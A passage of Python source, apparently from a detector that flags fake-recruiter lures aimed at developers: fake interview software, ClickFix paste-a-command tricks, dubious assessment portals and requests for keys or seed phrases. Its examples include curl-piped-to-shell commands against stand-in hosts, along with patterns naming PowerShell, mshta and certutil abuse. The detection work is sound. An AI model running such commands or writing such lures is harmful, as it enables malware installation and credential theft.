#: A browser or IDE extension (rule R28-F): "Chrome extension", "VS Code extension",
#: "browser add-on", "extension", "plugin for VS Code"
_EXTENSION = (r"(?:(?:chrome|firefox|edge|brave|safari|opera|browser|web|vs ?code|vscode"
              r"|visual studio(?: code)?|cursor|jetbrains|intellij|ide) )?(?:extension|add-on"
              r"|addon|plugin|plug-in)s?")
_FOR_MEETING_FR = (r"d'entretien|de visio(?:conference)?|de reunion|video|audio|d'entrevue"
                   r"|de la camera")
INTERVIEW_SOFTWARE_DOWNLOAD = PatternSignal(
    name="interview_software_download",
    description="Asks to download, install or update interview or meeting software, a camera "
    "driver or a browser to join the interview, instead of a standard meeting link.",
    category="lure",
    polarity="risk",
    source="L4: FBI IC3 PSA Sept 2024; LinkedIn VP post; SentinelOne 'Ferret'; Sekoia "
    "ClickFake Interview; Moonstone Sleet (trojanized PuTTY); ALTA CISO note",
    # safe advice negates the very action ("please don't install it from the link"; R20-F)
    unless=NEGATED_ACTION,
    unless_scope="near",
    patterns={
        "message": (
            near(r"\b(?:download|install|update|upgrade|reinstall|run|grab|get)\b",
                 r"\b(?:interview|meeting|video|camera|webcam|microphone|mic|audio|conferencing"
                 r"|call|screen[- ]?sharing|vpn) ?(?:app|application|software|client|tool|plugin"
                 r"|plug-in|extension|driver|drivers|fix|patch|update|program|installer)\b",
                 r"[^.!?]{0,30}"),
            r"\b(?:camera|webcam|microphone|mic|audio|video) (?:driver|drivers)\b",
            r"\b(?:update|upgrade|reinstall) (?:your )?(?:chrome|zoom|teams|browser|webex|skype"
            r"|google meet)\b",
            r"\b(?:camera|webcam|microphone|mic) (?:is |was )?(?:not (?:detected|working|found)"
            r"|isn't (?:detected|working)|error|access (?:error|blocked|denied)|blocked"
            r"|(?:didn't|didnt|doesn't|doesnt|did not|does not|won't|wont|isnt) (?:work|load|start"
            r"|connect))\b",
            r"\b(?:camera|webcam|microphone|mic|audio)\b[^.!?]{0,20}\b(?:could not|couldn't"
            r"|cannot|can't|can not|was not|wasn't) (?:be )?(?:detected|found|accessed|started)\b",
            r"\bdesktop (?:app|application|client) (?:is )?(?:required|needed)\b|\b(?:continue"
            r"|join|switch) (?:in|to|with|using) (?:the|our) (?:desktop|windows|mac) (?:app"
            r"|application|client)\b",
            # no brand word before "app": installing Zoom or Teams to join is ordinary
            r"\b(?:download|install|update|reinstall) (?:the |our |this |a |an )?(?:new |special "
            r"|dedicated |custom |secure |proprietary |attached |provided |following )?"
            r"(?:app|application|software|client|program|tool|extension|plugin)s? (?:to|in order"
            r" to|so (?:that )?(?:you|we) can|before (?:you|we)) (?:join|attend|start|do|take"
            r"|access|enter|continue) (?:the |our |your |this |a )?(?:video |online |technical )?"
            r"(?:interview|meeting|call|assessment|test|session)\b",
            # the noun and gerund forms ("requires the installation of our video conferencing
            # software", « nécessite l'installation de notre logiciel »; probe9, R19-G)
            r"\b(?:installation|installing|downloading|download) (?:of )?(?:our|the company's)"
            r" (?:[a-z\-]+ )?(?:interview|meeting|video|conferencing|video conferencing|call"
            r"|camera|webcam|screen[- ]?sharing) (?:[a-z\-]+ )?(?:software|app|application|client"
            r"|tool|platform)\b"
            r"|\b(?:l'installation|le telechargement) (?:de|du) (?:notre|nos) (?:logiciel"
            r"|application|appli|outil|client)s? (?:d'entretien|de visio(?:conference)?|de reunion"
            r"|video|d'entrevue)\b",
            r"\b(?:our|a) (?:own |custom |proprietary |secure |encrypted |dedicated )(?:interview"
            r"|meeting|video|conferencing|assessment) (?:app|application|software|platform|client"
            r"|tool)\b",
            # the interview runs in the sender's own software, or the usual one is "blocked"
            r"\b(?:interviews?|meetings?|calls?|sessions?) (?:run|runs|take place|are held|is held"
            r"|happen|are conducted|will be conducted|will run|will take place) (?:on|in|via|throug"
            r"h"
            r"|using) (?:a |our )?(?:own |custom |proprietary |in-house |internal |dedicated "
            r"|special )(?:platform|app|application|software|tool|client)\b",
            near(r"\b(?:use|uses|using|have|has) (?:our|a|its|their) (?:own|custom|proprietary"
                 r"|in-house|internal|dedicated) (?:video[- ]interview |video |meeting |interview "
                 r"|conferencing |call )?(?:tool|app|application|software|client|platform)\b",
                 r"\b(?:download|install|installer|setup)\b", r"[^.!?;]{0,60}"),
            r"\b(?:zoom|teams|google meet|meet|skype|webex) (?:is|are) (?:blocked|not allowed|banne"
            r"d"
            r"|unavailable|not available|restricted|not supported) (?:at|in|by|for|on) (?:our|the"
            r"|my)\b",
            r"\b(?:get|grab|download|run|launch|open) (?:the |our |this )?(?:installer|setup"
            r" (?:file|program|package))\b",
            r"\bif (?:the |your )?(?:page|site|browser|link|room|platform|system|it) (?:asks|prompt"
            r"s"
            r"|requests)(?: you)? (?:to )?(?:install|download|update|allow|enable|accept)\b",
            r"\b(?:camera|webcam|microphone|mic|audio|video) (?:isn't|is not|isnt|not) (?:coming"
            r" through|showing|displaying|appearing|working)(?: [a-z]+){0,2} (?:on|at|from) (?:our"
            r"|my) (?:end|side)\b",
            # a device or recording error that has happened, then the fix as the fake page's
            # heading at the end or its quoted button ("Recording Error ... How to Fix"):
            # ClickFake's fake interview page, whose fix is the malware (RED-FLAGS L4, L5; rule
            # R37-A). A help text's "here is how to fix it:" is no heading (review50 H2); a
            # peer's "have you followed the repair step" is an IT helpdesk's too (review51 L1).
            r"\b(?:(?:recording|camera|webcam|microphone|mic|audio|video|sound|stream)(?: access)?"
            r" error|something went wrong with (?:your|the) (?:video|recording|camera|webcam"
            r"|audio|microphone|mic|stream)|(?:stream|video|camera|webcam|recording) (?:appears to"
            r" be|seems to be|is) frozen)\b[\s\S]{0,150}?(?:\bhow to fix ?[.!]*$"
            r"|[\"'“«] ?how to fix ?[\"'”»])",
            # French
            # the sender's own or an interview's software, or a driver or patch; a generic
            # "client" or "application" alone is IT onboarding (« installez le client VPN »), as
            # in English, and Zoom is an allowlisted vendor (probe11, rule R20-E)
            r"\b(?:telecharge[rz]?|installe[rz]?|" + _UPDATE_FR + r") (?:(?:notre |nos )"
            + _SOFTWARE_FR + r"(?: (?:" + _FOR_MEETING_FR + r"))?|(?:le |la |l'|votre |ton )?"
            + _SOFTWARE_FR + r" (?:" + _FOR_MEETING_FR + r")|(?:notre |le |la |l'|votre |ton )?"
            r"(?:pilote|driver|plugin|extension|navigateur|chrome|correctif|patch|module"
            r"|composant)(?: (?:" + _FOR_MEETING_FR + r"|camera|webcam))?)\b",
            # a vendor's app updated at the sender's request, as "update Zoom via this link"
            r"\b" + _UPDATE_FR + r" (?:zoom|teams|skype|webex)"
            r"(?: [\w']+){0,4} (?:via|depuis|avec|a partir de|sur) (?:ce|le|notre|mon|cet)"
            r" (?:lien|url)\b",
            r"\bpilotes? (?:de la |de |de ta |de votre |de ton )?(?:camera|webcam|micro)\b",
            r"\b(?:camera|webcam|micro) (?:non (?:detectee?|reconnue?)|introuvable|bloquee?)\b",
            r"\b(?:camera|webcam|micro|son|video) (?:ne )?(?:s'affiche|fonctionne|marche|passe"
            r"|s'allume)(?: pas| plus) (?:de notre cote|de mon cote|chez nous|chez moi|sur notre"
            r" ecran)\b",
            # ClickFake's fake error, then the fix as a heading or a quoted button (rule
            # R37-A): « Erreur d'enregistrement ... Comment corriger »
            r"\b(?:erreur (?:d'enregistrement|de (?:la )?(?:camera|webcam)|du micro|audio|video"
            r"|de (?:la )?video)|(?:la )?(?:video|camera|webcam) (?:semble |est )?figee)\b"
            r"[\s\S]{0,150}?(?:\bcomment (?:la |le |l'|les )?(?:corriger|resoudre|reparer) ?[.!]*$"
            r"|[\"'“«] ?comment (?:corriger|resoudre|reparer) ?[\"'”»])",
            r"\b(?:entretiens?|reunions?|visios?|appels?) (?:se deroulent|se deroulera|se deroule"
            r"|se font|se fera|se feront|ont lieu|aura lieu|auront lieu) (?:sur|via|dans|avec)"
            r" (?:une|un|notre) (?:application|appli|logiciel|outil|plateforme) (?:maison|interne"
            r"|proprietaire|dediee?|sur mesure|specifique)\b",
            r"\binstalle[zr]?(?:-le|-la)? (?:a partir du|depuis le|via le|avec le) lien\b",
            # as « installez-le depuis le lien » (probe10, R20-B)
            r"\binstall(?:ing)? (?:it|them) (?:from|via|using|through|with) (?:the|this|our|my)"
            r" (?:link|url)\b",
            near(r"\b(?:module|plugin|plug-in|extension|composant|add-on)\b",
                 r"\binstalle[zr]?-(?:le|la)\b", r"[^.!?;]{0,60}"),
            r"\b(?:zoom|teams|google meet|meet|skype|webex) (?:est|sont) (?:bloque|interdit"
            r"|indisponible|non autorise|pas autorise)e?s? (?:chez|dans|par|pour)\b",
            # a browser or IDE extension of the sender's to install (rule R28-F, red-team round
            # 10 F9): "install our Chrome extension", "the VS Code extension we sent", "add the
            # extension from this link"; not a public one named for a take-home ("install the
            # React DevTools Chrome extension"), nor an extension as a product ("we build
            # Chrome extensions"). (French: « installez notre extension » above.)
            r"\b(?:install|add|download|enable|load|get) (?:our|my) (?:own |custom |internal "
            r"|proprietary |assessment |interview )?" + _EXTENSION + r"\b"
            r"|\b(?:the|this|our|my) " + _EXTENSION + r" (?:that )?(?:we|i)(?:'ve| have)?"
            r" (?:sent|shared|attached|linked|provided|sent you|shared with you|gave you)\b",
            near(r"\b(?:install|add|download|enable|load|get)\b",
                 _EXTENSION + r" (?:from|via|using|through|at) (?:the|this|our|my) (?:link|url"
                 r"|page)\b", r"[^.!?;]{0,30}"),
            r"\b(?:ajoute[rz]?|activez|activer) (?:notre|mon|l') ?extension\b"
            r"|\bl'extension (?:[\w-]+ ){0,3}que (?:nous|je) vous (?:avons|ai) (?:envoyee"
            r"|transmise|partagee)\b",
            # the camera or mic "not detected", then a download or a fix to install (probe set
            # E, rule R30-P; a camera fault alone is no lure: "if your mic isn't detected on
            # Teams, dial in"); « ta webcam ... un correctif pour le pilote, installe-le »
            near(r"\b(?:camera|cam|webcam|microphone|mic|headset)s?\b[^.!?]{0,20}\b(?:not|isn'?t"
                 r"|aren'?t|isnt|arent|wasn'?t|couldn'?t|can'?t|cannot|failed to|won'?t)"
                 r"(?: being| be)? (?:detected|recogni[sz]ed|found|picked up|accessible)\b",
                 r"\b(?:download|install|update|run|apply|accept|grab|get)\w{0,3}\b[^.!?]{0,25}"
                 r"\b(?:update|driver|drivers|fix|patch|installer|plugin)\b",
                 r"(?:[^.!?]{0,80}|[^.!?]{0,60}[.!?] [^.!?]{0,60})"),
            near(r"\b(?:camera|webcam|micro|cam)s?\b",
                 r"\b(?:correctif|pilote|driver|patch|mise a jour)\b[^.!?]{0,40}\b(?:installe"
                 r"|telecharge|accepte|lance|applique)\w{0,3}(?:-le|-la|-les)?\b",
                 r"[^.!?]{0,60}"),
        )
    },
    examples=(
        E("Merci de mettre à jour Teams via ce lien avant l'entretien.",
          lang="fr", spans=("mettre à jour Teams via ce lien",), note="from the sender's link"),
        E("Le pilote de ta caméra est obsolète, il faut le mettre à jour.",
          lang="fr", spans=("pilote de ta caméra",), note="as 'your camera driver' (R20-E)"),
        E("Please download and install it from the link below before tomorrow's session.",
          spans=("install it from the link",), note="as « installez-le depuis le lien » (R20-B)"),
        E("Notre plateforme nécessite l'installation de notre logiciel de visioconférence.",
          lang="fr",
          spans=("l'installation de notre logiciel de visioconférence",)),
        E("Our interview platform requires installing our video conferencing software.",
          spans=("installing our video conferencing software",)),
        E("Please download our interview app before the call.",
          spans=("download our interview app",)),
        E("Your camera isn't detected, update the camera driver from this link.",
          spans=("camera isn't detected", "camera driver")),
        E("Téléchargez notre logiciel d'entretien et mettez à jour le pilote de la caméra.",
          lang="fr", spans=("Téléchargez notre logiciel d'entretien", "pilote de la caméra")),
        E("Install the attached app in order to start the assessment.",
          spans=("Install the attached app in order to start the assessment",)),
        E("Teams is blocked at our firm, so we use our own video tool: run the installer from "
          "the link.", spans=("Teams is blocked at our", "run the installer")),
        E("Your webcam isn't showing on our end; if the room prompts you to install anything, "
          "accept.", spans=("webcam isn't showing on our end", "room prompts you to install")),
        E("Les entretiens ont lieu sur une plateforme interne : installez-la via le lien.",
          lang="fr", spans=("entretiens ont lieu sur une plateforme interne",
                            "installez-la via le lien")),
        E("Ton micro ne marche pas de notre côté, télécharge le patch audio.", lang="fr",
          spans=("micro ne marche pas de notre côté", "télécharge le patch audio")),
        # browser and IDE extensions (rule R28-F, red-team round 10 F9)
        E("Hi! Before the interview, please install our Chrome extension from the link below.",
          spans=("install our Chrome extension",)),
        E("For the assessment, install the VS Code extension we sent so we can follow along.",
          spans=("VS Code extension we sent",)),
        E("Add the browser extension from this link, it records the coding session.",
          spans=("Add the browser extension from this link",)),
        E("Avant l'entretien, installez notre extension Chrome depuis le lien ci-dessous.",
          lang="fr", spans=("installez notre extension",)),
        E("Ajoutez notre extension d'évaluation, puis rejoignez la visio.", lang="fr",
          spans=("Ajoutez notre extension",)),
        E("Ouvrez VS Code avec l'extension VS Code que nous vous avons envoyée.", lang="fr",
          spans=("l'extension VS Code que nous vous avons envoyée",)),
        # the device "not detected", then a fix to install (probe set E, R30-P)
        E("Your webcam wasn't recognised by our room; grab the driver update from the banner "
          "and rejoin.", spans=("webcam wasn't recognised by our room; grab the driver",),
          note="(R30-P)"),
        E("Looks like the cam isn't picked up on our page, just download the fix from the "
          "popup.", spans=("cam isn't picked up on our page, just download the fix",),
          note="(R30-P)"),
        E("Si ta webcam reste noire, la page te proposera un pilote : télécharge-le tout de "
          "suite.", lang="fr",
          spans=("webcam reste noire, la page te proposera un pilote : télécharge-le",),
          note="(R30-P)"),
        E("Recording Error\nSomething went wrong with your video recording. The stream "
          "appears to be frozen.\nHow to Fix",
          spans=("Recording Error\nSomething went wrong with your video recording. The stream "
                 "appears to be frozen.\nHow to Fix",),
          note="ClickFake's error page (R37-A)"),
        E("Erreur d'enregistrement\nLa vidéo semble figée.\nComment corriger", lang="fr",
          spans=("Erreur d'enregistrement\nLa vidéo semble figée.\nComment corriger",)),
    ),
    counterexamples=(
        E("If you have any audio issues during the call, just dial in with the number in the "
          "invite.", note="no error reported, no fix to apply (R37-A)"),
        E("Our field engineers document each repair step and fix video issues on site for our "
          "broadcast clients.", note="a repair job, no error then fix (R37-A)"),
        E("Nous recrutons un technicien : diagnostic des erreurs vidéo, étapes de réparation et "
          "suivi client.", lang="fr"),
        E("Hi Alex, something went wrong with your video recording for question 3. Here is how "
          "to fix it: open the link again and allow camera access.",
          note="a platform's help text, no heading (review50 H2)"),
        E("FAQ - Audio error during the assessment? How to fix: check your microphone settings.",
          note="review50 H2"),
        E("Une erreur d'enregistrement s'est produite. Comment la corriger : rouvrez le lien et "
          "autorisez la caméra.", lang="fr", note="review50 H2"),
        E("Technicien SAV : chaque erreur vidéo signalée suit les étapes de réparation.",
          lang="fr", note="review50 L2"),
        E("Try the fix steps on the intranet page if you hit a webcam problem.",
          note="review50 H2"),
        E("IT helpdesk here. Did you follow the fix steps in ticket 4412? They should resolve "
          "the audio issue.", note="review51 L1"),
        E("Recording error? Click How to fix in the help centre.", note="no quoted button"),
        E("If your microphone isn't being detected on Teams, dial in with the number in the "
          "invite.", note="a fault, no download (R30-P: a reverted attempt flagged it)"),
        E("If your headset isn't picked up, we'll simply switch to a phone call; no download "
          "needed.", note="(R30-P)"),
        E("Si ta caméra ne marche pas, on bascule sur le téléphone, pas besoin d'installer quoi "
          "que ce soit.", lang="fr", note="(R30-P)"),
        E("Bonjour, pour l'entretien de jeudi, merci de mettre à jour Teams sur votre "
          "ordinateur.",
          lang="fr", note="no link (R20-K)"),
        E("Reminder from IT: please don't install it from the link, always use the company "
          "portal.",
          note="negated (review12, R20-F)"),
        E("Installez le client VPN GlobalProtect avant votre premier jour.",
          lang="fr", note="IT onboarding"),
        E("Merci d'installer Zoom avant l'entretien.",
          lang="fr", note="an allowlisted vendor, as in English (R20-E)"),
        E("Before day one, finish installing our VPN client.", note="IT onboarding (R19-I)"),
        E("Join via this Teams link."),
        E("Please install Microsoft Teams to join the meeting if you do not have it."),
        E("Here's the Zoom link for Tuesday: https://zoom.us/j/5551234"),
        E("Voici le lien Google Meet pour notre entretien.", lang="fr"),
        E("If your video is not showing, we can do the call by phone instead.",
          note="an offer to fall back to the phone, no claim about 'our end'"),
        E("Si la page vous demande de vous connecter, utilisez votre e-mail.", lang="fr"),
        E("Nos entretiens ont lieu sur Teams ; si votre micro ne fonctionne pas, on passe au "
          "téléphone.", lang="fr"),
        # extensions as a product, or a public one for a take-home; the Teams app (R28-F)
        E("Our team builds Chrome extensions and VS Code plugins used by 2M developers."),
        E("For the take-home, you may want to install the React DevTools Chrome extension."),
        E("Please install the Teams app before the interview.",
          note="an allowlisted vendor's app, no link (R28-F: not a lure today)"),
        E("Vous développerez notre extension Chrome, utilisée par 2 millions de personnes.",
          lang="fr", note="the product (R28-F)"),
    ),
)

PASTE_COMMAND = PatternSignal(
    name="paste_command",
    description="Asks to paste a command into a terminal or the Run box: curl piped to a "
    "shell, PowerShell, 'press Win+R and paste' (ClickFix / ClickFake).",
    category="lure",
    polarity="risk",
    source="L5: Sekoia ClickFake Interview (March 2025); FBI IC3 PSA Sept 2024; "
    "dev-trap-dossiers (curl | bash in .vscode/tasks.json)",
    patterns={
        "message": (
            r"\b(?:curl|wget)\b[^|]{0,200}\| ?(?:sudo )?(?:ba|z)?sh\b",
            r"\b(?:powershell|pwsh)(?:\.exe)?(?: -[a-z]+(?: [a-z0-9]+)?){0,4} -(?:e|enc"
            r"|encodedcommand"
            r"|c|command|w hidden|windowstyle hidden|ep bypass|executionpolicy bypass)\b",
            r"\b(?:iex|invoke-expression|invoke-webrequest|iwr|mshta|certutil -urlcache|bitsadmin"
            r"|regsvr32|rundll32)\b",
            r"\b(?:win|windows|windows key) ?\+ ?r\b|\b(?:cmd|command) ?\+ ?space\b",
            r"\b(?:copy|paste|copy-paste|copy and paste|copy & paste|type|run|enter|execute)"
            r" (?:this|the following|the|below|that|these)? ?(?:command|commands|script|line|code"
            r"|snippet)?(?: below)? ?(?:in|into|in to|to) (?:your |the |a )?(?:terminal|command"
            r" prompt|cmd|powershell|run dialog|run box|shell|console|bash)\b",
            r"\bbase64 (?:-d|--decode)\b|\b(?:bash|sh) -c\b",
            # a download run at once: process substitution, cmd /c, the Run dialog
            r"\b(?:ba|z)?sh <\( ?(?:curl|wget)\b|\bcmd(?:\.exe)? /[ck]\b|\b(?:open|launch|bring up)"
            r" (?:the |a )?(?:windows )?(?:run dialog|run box|run window)\b|\b(?:ouvre[zr]?"
            r"|lance[zr]?) (?:la |une )?(?:boite|fenetre) (?:de dialogue )?executer\b",
            near(r"\b(?:paste|pasting|copy-paste)\b", r"\b(?:terminal|command prompt|cmd|powershell"
                 r"|run dialog|run box)\b", r"[^.!?]{0,60}"),
            r"\bscreenshots? of (?:the |your )?(?:result|output)s?\b",
            # French
            r"\b(?:copie[zr]?|colle[zr]?|copie[zr]?-colle[zr]?|copier-coller|tape[zr]?|execute[zr]?"
            r"|lance[zr]?) (?:cette|la|une|ces|les) (?:commandes?|lignes?|instructions?)"
            r" (?:dans|sur) (?:le |la |votre |ton |l')?(?:terminal|invite de commandes?|powershell"
            r"|console)\b",
            # as "copy this into your terminal" (probe11, R20-E)
            r"\b(?:copie[zr]?|colle[zr]?|tape[zr]?) (?:ca|ceci|cela|ce (?:code|texte|script))"
            r"(?: ci-dessous)? (?:dans|sur) (?:le |la |votre |ton |l')?(?:terminal|invite de"
            r" commandes?|powershell|console)\b",
            near(r"\b(?:colle[zr]?|copier-coller|copie[zr]?-colle[zr]?)\b",
                 r"\b(?:terminal|invite de commandes?|powershell|cmd)\b", r"[^.!?]{0,60}"),
            near(r"\b(?:ouvre[zr]?|lance[zr]?|demarre[zr]?) (?:le |la |l'|votre |ton )?(?:terminal"
                 r"|invite de commandes?|powershell|cmd)\b",
                 r"\b(?:colle[zr]?|copie[zr]?)\b",
                 r"[^.!?]{0,40}"),
            near(r"\b(?:open|launch|start) (?:the |your |a )?(?:terminal|command prompt|cmd"
                 r"|powershell)\b", r"\b(?:paste|copy)\b", r"[^.!?]{0,40}"),
            r"\bcaptures? d'ecran (?:du|des) (?:resultat|sortie)s?\b",
        )
    },
    examples=(
        E("Copie ça dans le terminal et appuie sur Entrée pour réparer ton micro.",
          lang="fr",
          spans=("Copie ça dans le terminal",),
          note="as 'copy this into your terminal' (R20-E)"),
        E("To fix the camera, run curl -s https://cam-fix.example/install.sh | bash",
          spans=("curl -s https://cam-fix.example/install.sh | bash",)),
        E("Press Win+R and paste the command I sent.", spans=("Win+R",)),
        E("Copiez-collez cette commande dans le Terminal pour activer la caméra.", lang="fr",
          spans=("Copiez-collez cette commande dans le Terminal",)),
        E("Open the terminal and paste the line below.",
          spans=("Open the terminal and paste",)),
        E("Pour réparer votre caméra, ouvrez PowerShell et collez cette commande.", lang="fr",
          spans=("ouvrez PowerShell et collez",)),
        E("Bring up the Run box and enter: cmd /c start fix.bat",
          spans=("Bring up the Run box", "cmd /c")),
        E("Ouvrez la fenêtre Exécuter puis lancez : sh <(curl -s https://x.example/a.sh)",
          lang="fr", spans=("Ouvrez la fenêtre Exécuter", "sh <(curl")),
    ),
    counterexamples=(
        E("You'll use the terminal a lot in this DevOps role: bash, Terraform, Kubernetes."),
        E("Le poste demande une bonne maîtrise du terminal et de PowerShell.", lang="fr"),
        E("You'll open a terminal and run our test suite during the pairing session."),
        E("Ouvrez une console et lancez vos tests unitaires pendant le pair programming.",
          lang="fr"),
    ),
)

_WEB3 = (
    r"\b(?:web ?3(?:\.0)?|defi|de-fi|dapps?|dex|blockchain|crypto(?:currency|currencies)?|nfts?"
    r"|metaverse|play[- ]to[- ]earn|p2e|gamefi|staking|smart contracts?|solidity|erc-?20"
    r"|erc-?721|tokeni[sz]ation|tokenomics|ethereum|solana|crypto wallets?|yield farming"
    r"|liquidity pools?|on-chain|onchain|memecoins?|airdrops?|rwa tokeni[sz]ation)\b",
    r"\b(?:plateforme defi|projet web3|mvp blockchain|chaine de blocs|cryptomonnaies?"
    r"|cryptoactifs?|jetons? non fongibles?|contrats? intelligents?)\b",
)
WEB3_PITCH = PatternSignal(
    name="web3_pitch",
    description="The approach or the target is about Web3, crypto or DeFi: a context that "
    "developer-targeted lures favour, and where genuine hiring is also common.",
    category="context",
    polarity="context",
    source="L6 (context prior, like M1): FBI IC3 PSA Sept 2024; Unit 42; dev-trap-dossiers; "
    "xndbogdan; SethTenenbaum gist; Moonstone Sleet; Sapphire Sleet; MetaMask crypto-job page",
    patterns={
        "message": _WEB3,
        "target_headline": (*_WEB3, r"\bnode\.?js\b"),
    },
    examples=(
        E("We're building a DeFi platform with staking and need a lead for our Web3 MVP.",
          spans=("DeFi", "staking", "Web3")),
        E("Hi", fields={"target_headline": "Solidity / Node.js developer"},
          spans=("Solidity", "Node.js")),
        E("Nous lançons une plateforme DeFi et un projet Web3.", lang="fr",
          spans=("plateforme DeFi",)),
    ),
    counterexamples=(
        E("We're hiring a backend engineer for our payments API, salary €80-95k."),
        E("Poste de développeur Java dans une banque, CDI.", lang="fr"),
    ),
)

ASSESSMENT_PORTAL = CallableSignal(
    name="assessment_portal",
    description="Sends the candidate to a skills test on a portal that is neither a known "
    "assessment platform nor the company's own domain, or asks to register there.",
    category="lure",
    polarity="risk",
    source="L8: Microsoft on Sapphire Sleet via Computing and Ticker (fake skills-assessment "
    "portals, password-protected, lures sent on LinkedIn)",
    detector=d.assessment_portal,
    fast=d.assessment_portal_fast,
    prefilter=(("message", d.ASSESS_PREFILTER, False),),
    reads=("message", "sender_company_url"),
    examples=(
        E("Register at skills.talenthub-assess.io and complete the 45-minute assessment.",
          spans=("complete the 45-minute assessment", "skills.talenthub-assess.io")),
        E("Complete the skills assessment at https://talent-eval-hub.io/start today.",
          spans=("skills assessment", "https://talent-eval-hub.io/start")),
        E("Register an account on our portal to start the technical test.",
          spans=("technical test", "Register")),
        E("Passez le test technique sur evaluation-dev-carriere.com avant vendredi.", lang="fr",
          spans=("test technique", "evaluation-dev-carriere.com")),
        E("Log in to our candidate testing hub with the credentials below.",
          spans=("candidate testing", "testing hub")),
        E("Crée-toi un compte et fais le quiz de code avant lundi.", lang="fr",
          spans=("quiz de code", "Crée-toi un compte")),
        E("Le test se fait sur notre portail maison, tu crées un compte ; c'est protégé par mdp.",
          lang="fr", spans=("test se fait sur", "notre portail"), note="(R29-G)"),
        E("The test is hosted on a password-protected site; I'll DM you the password.",
          spans=("test is hosted on", "password-protected"), note="(R29-G)"),
    ),
    counterexamples=(
        E("The coding test is on HackerRank: https://www.hackerrank.com/test/abc123"),
        E("Our engineering hub in Leeds runs candidate testing on CoderPad: "
          "https://app.coderpad.io/x"),
        E("Le quiz de code se passe sur Codility : https://app.codility.com/test/y", lang="fr"),
        E("Take the technical test at careers.helix-quantum.io/test",
          fields={"sender_company_url": "https://helix-quantum.io"}),
        E("Le test technique se passe sur Codility : https://app.codility.com/test/x", lang="fr"),
        # file and framework names are not links
        E("Our technical test is a small app in Next.js; put a README.md in your repository."),
        E("Le test technique : une API en Node.js, avec un README.md et un setup.py.", lang="fr"),
        E("The test takes place on CoderPad: https://app.coderpad.io/abc",
          note="a known platform (R29-G)"),
        E("Le test se passe sur place, dans nos locaux, avec l'équipe.", lang="fr",
          note="on site, no portal (R29-G)"),
    ),
)

SECRETS_ON_DEVICE = PatternSignal(
    name="secrets_on_device",
    description="Asks to run the test on a work device or with secrets present: put a private "
    "key, seed phrase or API keys in .env, connect a wallet, use the work laptop.",
    category="lure",
    polarity="risk",
    source="L9: FBI IC3 PSA Sept 2024 (code on company devices); The Record / ESET; "
    "SethTenenbaum gist (.env asks for RELAYER_PRIVATE_KEY, JWT_SECRET); rtidx",
    # a warning not to do it ("never paste real keys", « ne le lancez pas sur votre ordinateur
    # professionnel ») is the safe advice, not the request
    unless=NEGATED_ACTION,
    unless_scope="near",
    patterns={
        "message": (
            r"\b(?:put|paste|add|enter|insert|fill in|set|provide|copy|export|send|share|use|type)"
            r" (?:in )?(?:your |the |a )?(?:own |real |actual |personal )?(?:wallet'?s? "
            r"|metamask )?"
            r"(?:private keys?|secret keys?|seed phrase|recovery phrase|secret recovery phrase"
            r"|mnemonic|api keys?|aws (?:keys?|credentials)|access keys?|credentials|secrets?"
            r"|tokens?)\b",
            near(r"\b(?:private keys?|seed phrase|recovery phrase|mnemonic|api keys?|secrets?"
                 r"|credentials|tokens?)\b", r"(?:\bin|\binto|\bto) (?:the |your |a )?\.env\b"),
            # the candidate's own keys in the environment or a config file
            near(r"\b(?:your|ur) (?:(?:own|real|actual|personal|live|production|aws|github"
                 r"|wallet'?s?)\s){0,3}(?:private keys?|secret keys?|seed phrase|recovery phrase"
                 r"|mnemonic|api keys?|access keys?|secrets?|credentials|tokens?)\b",
                 r"\b(?:in|into|to) (?:the |your |a )?(?:environment variables?|env vars?"
                 r"|config(?:uration)? file|settings file)\b", r"[^.!?]{0,40}"),
            r"\b(?:connect|link|plug|hook up|sync) (?:your |ur |a )?(?:own |real |personal )?"
            r"(?:metamask |phantom |crypto |web3 |ethereum |eth |solana )?wallet\b"
            r"|\bsign (?:the|a|this) (?:test |dummy |small )?transaction\b",
            r"\b(?:relayer_)?private_key\b|\bjwt_secret\b|\bseed phrase\b",
            r"\b(?:use|on|from|using|with) (?:your|ur) (?:work|office|company|corporate|employer'?s"
            r"?"
            r"|company-issued|company-provided|work-issued|employer-issued|business)"
            r" (?:laptop|computer|machine|device|pc|workstation|mac)\b",
            # the device of the candidate's current employer, described
            r"\b(?:machine|computer|laptop|device|pc) (?:that )?(?:you use|you work on) (?:at|for)"
            r" (?:your|ur) (?:current |day )?(?:job|work|employer|office|company)\b"
            r"|\b(?:laptop|computer|machine|device|pc) (?:provided|issued|given|supplied) by (?:you"
            r"r"
            r"|ur) (?:current )?(?:employer|company|job|workplace)\b",
            # French
            near(r"\b(?:mettez|mettre|collez|coller|entrez|saisissez|renseignez|ajoutez|fournissez"
                 r"|indiquez|mets|colle|saisis|renseigne|ajoute|fournis|indique)\b",
                 r"\b(?:cle privee|cles privees|phrase de recuperation|phrase secrete|cles? api"
                 r"|identifiants)\b", r"[^.!?]{0,30}"),
            r"\b(?:connecte[zr]?|relie[zr]?|lie[zr]?|associe[zr]?) (?:votre |ton )?(?:portefeuille"
            r"|wallet)\b|\bsigne[zr]? (?:la|une|cette) transaction\b",
            r"\b(?:sur|depuis|avec) (?:votre|ton) (?:ordinateur|poste|pc|portable)"
            r" (?:professionnel|de travail|pro|du bureau)\b",
            r"\b(?:ordinateur|poste|pc|portable|machine) (?:fourni|prete|donne|mis a disposition)e?"
            r" par (?:votre|ton) (?:employeur|entreprise|societe|boite)\b",
            near(r"\b(?:vos|votre|tes|ton|ta) (?:propres? |vrais? |vraies? )?(?:cles? privees?"
                 r"|cles? api|cles? d'acces|identifiants|jetons?(?: d'acces)?|tokens?|secrets?"
                 r"|phrase de recuperation|mots? de passe)\b",
                 r"\b(?:dans|en) (?:le |les |un |votre |ton )?(?:fichier \.env|\.env|variables?"
                 r" d'environnement|fichier de configuration)\b", r"[^.!?]{0,60}"),
            # the assessment on "their" work machine, or signed into the company's SSO while
            # doing it (probe set E, rule R30-P; "their work laptop" alone is how engineers
            # work, and "signed into your company SSO on your first day" is onboarding)
            near(r"\b(?:assessments?|take-?homes?|coding (?:tests?|tasks?|challenges?"
                 r"|exercises?)|technical (?:tests?|exercises?)|(?:the|this|our) (?:test|exercise"
                 r"|challenge))\b",
                 r"\b(?:on|from|using|with|via) (?:their|his|her) (?:own )?(?:work|office|company"
                 r"|corporate|employer'?s?|company-issued|work-issued) (?:laptops?|computers?"
                 r"|machines?|devices?|pcs?|workstations?|macs?)\b", r"[^.!?]{0,80}"),
            r"\b(?:signed|logged) (?:in|into|on|onto)(?: to)? (?:your|ur|their) (?:company"
            r"|corporate|work|employer'?s?) (?:sso|vpn|accounts?|network|single sign-on)\b"
